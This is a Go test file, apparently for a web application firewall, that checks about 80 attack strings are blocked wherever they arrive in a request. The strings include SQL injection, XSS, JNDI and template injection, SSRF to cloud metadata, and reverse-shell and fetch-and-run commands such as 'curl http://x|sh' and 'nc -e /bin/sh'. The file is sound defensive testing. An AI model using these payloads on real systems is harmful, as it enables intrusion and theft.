@@ -1,0 +1,161 @@
+package payload
+
+import (
+	"context"
+	"net/url"
+	"strings"
+	"testing"
+)
+
+// crsCase is an attack from the families of OWASP CRS paranoia level 1
+// that must block on its own, with the LLM off, wherever it arrives.
+type crsCase struct {
+	in string
+	// reasons: the acceptable Result.Reason values, '|'-separated.
+	reasons string
+	// key: the attack lives in a parameter name (NoSQL operators).
+	key bool
+}
+
+var crsAttacks = map[string]crsCase{
+	// SQL injection beyond libinjection.
+	"sqli comment dash space": {in: "admin'-- -", reasons: ReasonSQLi},
+	"sqli hash comment":       {in: "admin' #", reasons: ReasonSQLi},
+	"sqli or exists":          {in: "' or (EXISTS)", reasons: ReasonSQLi},
+	"sqli xp_cmdshell":        {in: "'; exec master..xp_cmdshell", reasons: ReasonSQLi},
+	"sqli union all nulls":    {in: ") UNION ALL SELECT NULL,NULL--", reasons: ReasonSQLi},
+	"sqli mssql declare":      {in: "1;DECLARE/**/@x/**/NVARCHAR(4000);SET/**/@x=(SELECT 1);EXEC/**/@x--", reasons: ReasonSQLi},
+	"sqli waitfor delay":      {in: "1/**/WAITFOR/**/DELAY/**/'0:0:5'", reasons: ReasonSQLi},
+	"sqli pg_sleep":           {in: "1;SELECT pg_sleep(5)--", reasons: ReasonSQLi},
+	"sqli benchmark":          {in: "1 AND BENCHMARK(5000000,MD5(1))", reasons: ReasonSQLi},
+	"sqli sleep in and":       {in: "1' AND SLEEP(5) AND 'a'='a", reasons: ReasonSQLi},
+	"sqli json operator":      {in: `1 AND data->>'$.role' = 'admin' OR 1=1`, reasons: ReasonSQLi},
+	"sqli information_schema": {in: "1 union select table_name from information_schema.tables", reasons: ReasonSQLi},
+	"sqli oracle dbms":        {in: "' || dbms_pipe.receive_message(('a'),10) || '", reasons: ReasonSQLi},
+	"sqli into outfile":       {in: "1 INTO OUTFILE '/var/www/x.php'", reasons: ReasonSQLi},
+
+	// XSS.
+	"xss onmouseover no close": {in: `<IMG SRC= onmouseover="alert('xxs')">`, reasons: ReasonXSS},
+	"xss javascript mixed":     {in: "JavaSCript:alert(123)", reasons: ReasonXSS},
+	"xss full width":           {in: "＜script＞alert(1)＜/script＞", reasons: ReasonXSS},
+	"xss svg onload":           {in: "<svg/onload=alert(1)>", reasons: ReasonXSS},
+	"xss open tag handler":     {in: `<body onload=alert(1)`, reasons: ReasonXSS},
+	"xss data uri":             {in: "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", reasons: ReasonXSS},
+	"xss vbscript":             {in: "vbscript:msgbox(1)", reasons: ReasonXSS},
+	"xss js escapes":           {in: `\u{3c}script\u{3e}alert(1)\u{3c}/script\u{3e}`, reasons: ReasonXSS},
+	"xss template literal":     {in: "<script>alert`1`</script>", reasons: ReasonXSS},
+	"xss iframe srcdoc":        {in: `<iframe srcdoc="<script>alert(1)</script>">`, reasons: ReasonXSS + "|" + ReasonSQLi},
+	"xss math href":            {in: `<math><a xlink:href="javascript:alert(1)">x</a></math>`, reasons: ReasonXSS},
+	"xss css escape":           {in: `<div style="background:url(\6a avascript:alert(1))">`, reasons: ReasonXSS},
+
+	// Command injection.
+	"cmdi dollar paren":      {in: "$(id)", reasons: ReasonShellInjection},
+	"cmdi backticks":         {in: "`id`", reasons: ReasonShellInjection},
+	"cmdi find exec":         {in: ";find /etc -name passwd -exec cat {} +", reasons: ReasonShellInjection},
+	"cmdi dev tcp":           {in: "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", reasons: ReasonShellInjection},
+	"cmdi glob brackets":     {in: "cat /etc/pa[s]swd", reasons: ReasonShellInjection + "|" + ReasonPathTraversal},
+	"cmdi glob question":     {in: "/e?c/pa*wd", reasons: ReasonShellInjection + "|" + ReasonPathTraversal},
+	"cmdi powershell iex":    {in: ";iex (iwr http://x/a.ps1)", reasons: ReasonShellInjection},
+	"cmdi semicolon id":      {in: ";id", reasons: ReasonShellInjection},
+	"cmdi pipe whoami":       {in: "| whoami", reasons: ReasonShellInjection},
+	"cmdi and uname":         {in: "&& uname -a", reasons: ReasonShellInjection},
+	"cmdi curl pipe sh":      {in: ";curl http://x|sh", reasons: ReasonShellInjection},
+	"cmdi ifs":               {in: ";cat${IFS}/etc/passwd", reasons: ReasonShellInjection + "|" + ReasonPathTraversal},
+	"cmdi invoke-expression": {in: "Invoke-Expression (New-Object Net.WebClient).DownloadString('http://x/a')", reasons: ReasonShellInjection},
+	"cmdi windows cmd":       {in: "& cmd.exe /c whoami", reasons: ReasonShellInjection},
+	"cmdi nc reverse":        {in: "; nc -e /bin/sh 10.0.0.1 4444", reasons: ReasonShellInjection},
+	"cmdi amp ping":          {in: "& ping -c 10 127.0.0.1 &", reasons: ReasonShellInjection},
+	"cmdi php system":        {in: ";system('id')", reasons: ReasonShellInjection},
+
+	// Path traversal and file access.
+	"lfi windows backslash": {in: `..\..\windows\win.ini`, reasons: ReasonPathTraversal},
+	"lfi tomcat":            {in: "/..;/manager/html", reasons: ReasonPathTraversal},
+	"lfi file scheme":       {in: "file:///etc/passwd", reasons: ReasonPathTraversal + "|" + ReasonSSRF},
+	"lfi web-inf":           {in: "../WEB-INF/web.xml", reasons: ReasonPathTraversal},
+	"lfi git head":          {in: ".git/HEAD", reasons: ReasonPathTraversal},
+
+	// New families.
+	"jndi ldap":         {in: "${jndi:ldap://x/a}", reasons: ReasonJNDI},
+	"jndi nested":       {in: "${${lower:j}ndi:${lower:l}dap://x/a}", reasons: ReasonJNDI},
+	"jndi env":          {in: "${${env:BARFOO:-j}ndi${env:BARFOO:-:}rmi://x/a}", reasons: ReasonJNDI},
+	"ssti arithmetic":   {in: "{{7*7}}", reasons: ReasonSSTI},
+	"ssti jinja class":  {in: "{{''.__class__.__mro__[1].__subclasses__()}}", reasons: ReasonSSTI},
+	"ssti erb":          {in: "<%= 7*7 %>", reasons: ReasonSSTI},
+	"ssti spring":       {in: "${T(java.lang.Runtime).getRuntime().exec('id')}", reasons: ReasonSSTI + "|" + ReasonDeserialization + "|" + ReasonShellInjection},
+	"ssti ruby":         {in: "#{7*7}", reasons: ReasonSSTI},
+	"nosqli key ne":     {in: "u_id[$ne]", key: true, reasons: ReasonNoSQLi},
+	"nosqli key gt":     {in: "password[$gt]", key: true, reasons: ReasonNoSQLi},
+	"nosqli where":      {in: `{"$where": "sleep(100)"}`, reasons: ReasonNoSQLi + "|" + ReasonSQLi},
+	"ldapi filter":      {in: "*(|(mail=*))", reasons: ReasonLDAPi},
+	"ldapi objectclass": {in: "*)(objectClass=*", reasons: ReasonLDAPi},
+	"ssrf metadata":     {in: "http://169.254.169.254/latest/meta-data/", reasons: ReasonSSRF},
+	"ssrf gcp":          {in: "http://metadata.google.internal/computeMetadata/v1/", reasons: ReasonSSRF},
+	"ssrf gopher":       {in: "gopher://127.0.0.1:6379/_INFO", reasons: ReasonSSRF},
+	"ssrf dict":         {in: "dict://localhost:11211/stat", reasons: ReasonSSRF},
+	"ssrf decimal ip":   {in: "http://2852039166/latest/meta-data/", reasons: ReasonSSRF},
+	"ssrf hex ip":       {in: "http://0x7f000001/admin", reasons: ReasonSSRF},
+	"ssrf ipv6 aws":     {in: "http://[fd00:ec2::254]/latest/", reasons: ReasonSSRF},
+	"ssrf redis":        {in: "http://127.0.0.1:6379/", reasons: ReasonSSRF},
+	"crlf set-cookie":   {in: "%0d%0aSet-Cookie:%20a=b", reasons: ReasonCRLF},
+	"crlf location":     {in: "x\r\nLocation: http://evil/", reasons: ReasonCRLF},
+	"php filter":        {in: "php://filter/convert.base64-encode/resource=index.php", reasons: ReasonPHPWrapper},
+	"php phar":          {in: "phar://uploads/a.jpg/x", reasons: ReasonPHPWrapper},
+	"php expect":        {in: "expect://id", reasons: ReasonPHPWrapper},
+	"php data":          {in: "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWzBdKTs/Pg==", reasons: ReasonPHPWrapper},
+	"java serialized":   {in: "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==", reasons: ReasonDeserialization},
+	"java hex":          {in: "aced0005737200116a6176612e7574696c2e486173684d6170", reasons: ReasonDeserialization},
+	"java runtime":      {in: "java.lang.Runtime.getRuntime().exec(\"id\")", reasons: ReasonDeserialization + "|" + ReasonShellInjection},
+}
+
+// crsShapes places an attack in a query value, a JSON body field and a
+// header; a key attack in a query key, a form key and a JSON key.
+func crsShapes(tc crsCase) map[string]*Input {
+	if tc.key {
+		return map[string]*Input{
+			"query-key": {Path: "/login", RawQuery: url.QueryEscape(tc.in) + "=2"},
+			"form-key":  {Path: "/login", Body: []byte(url.QueryEscape(tc.in) + "=2"), ContentType: "application/x-www-form-urlencoded"},
+			"json-key":  {Path: "/login", Body: []byte(`{"user":{` + jsonQuote(tc.in) + `:2}}`), ContentType: "application/json"},
+		}
+	}
+	hv := tc.in
+	if strings.ContainsAny(hv, "\r\n") {
+		hv = url.QueryEscape(hv) // a header cannot carry a raw CR or LF
+	}
+	return map[string]*Input{
+		"query":  inQuery(tc.in),
+		"json":   inJSON(tc.in),
+		"header": {Path: "/", Headers: map[string]string{"x-data": hv}},
+	}
+}
+
+func TestCRSAttacksBlock(t *testing.T) {
+	cfg := DefaultConfig()
+	cfg.LLM.Mode = LLMOff
+	v := newTestValidator(t, cfg)
+	for name, tc := range crsAttacks {
+		t.Run(name, func(t *testing.T) {
+			for shape, in := range crsShapes(tc) {
+				res := v.Inspect(context.Background(), in)
+				if res.Action != Block {
+					t.Errorf("%s: %q not blocked (score %d, findings %+v)", shape, tc.in, res.Score, res.Findings)
+					continue
+				}
+				ok := false
+				for _, r := range strings.Split(tc.reasons, "|") {
+					ok = ok || r == res.Reason
+				}
+				if !ok {
+					t.Errorf("%s: %q: reason %s, want %s (findings %+v)", shape, tc.in, res.Reason, tc.reasons, res.Findings)
+				}
+				if res.Rule == "" || !strings.HasPrefix(res.Rule, "payload.") {
+					t.Errorf("%s: %q: rule %q, want a payload.* rule name", shape, tc.in, res.Rule)
+				}
+				for _, f := range res.Findings {
+					if f.Rule == "" {
+						t.Errorf("%s: %q: finding without a rule: %+v", shape, tc.in, f)
+					}
+				}
+			}
+		})
+	}
+}
